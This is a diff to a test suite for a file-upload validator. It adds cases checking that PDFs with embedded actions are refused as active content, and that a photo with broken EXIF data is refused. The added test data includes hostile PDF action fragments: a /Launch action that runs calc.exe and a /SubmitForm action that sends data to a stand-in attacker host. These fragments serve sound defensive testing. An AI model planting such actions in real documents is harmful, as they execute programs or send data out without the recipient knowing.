@@ -124,6 +124,9 @@ def test_a_pdf_that_opens_without_a_password_is_taken() -> None:
         (samples.pdf(javascript=True), ActiveContent),
         (samples.pdf(attached=True), ActiveContent),
         (samples.pdf_with_launch(), ActiveContent),
+        (samples.pdf_with_action(b"<</S 5 0 R/F(calc.exe)>>", b"/Launch"), ActiveContent),
+        (samples.pdf_with_action(b"<</S 5 0 R/F<</FS/URL/F(https://evil.example)>>>>", b"/SubmitForm"), ActiveContent),
+        (samples.pdf_with_action(b"<</S/GoToR/F(x.pdf)/D[0/Fit]>>"), ActiveContent),
         (samples.pdf(password="secret"), Encrypted),
         (samples.pdf(61), TooManyPages),
         (samples.pdf(0), BrokenFile),
@@ -159,3 +162,8 @@ def test_a_damaged_pdf_never_raises_anything_else(place: int, noise: bytes) -> N
     good = samples.pdf()
     with suppress(FileRefused):
         assert pdfs.page_count(good[:place] + noise + good[place + len(noise) :]) >= 1
+
+
+def test_a_photo_with_damaged_exif_is_refused_in_a_sentence() -> None:
+    with pytest.raises(BrokenFile):
+        images.harmless(samples.photo_with_damaged_exif(), "JPEG")
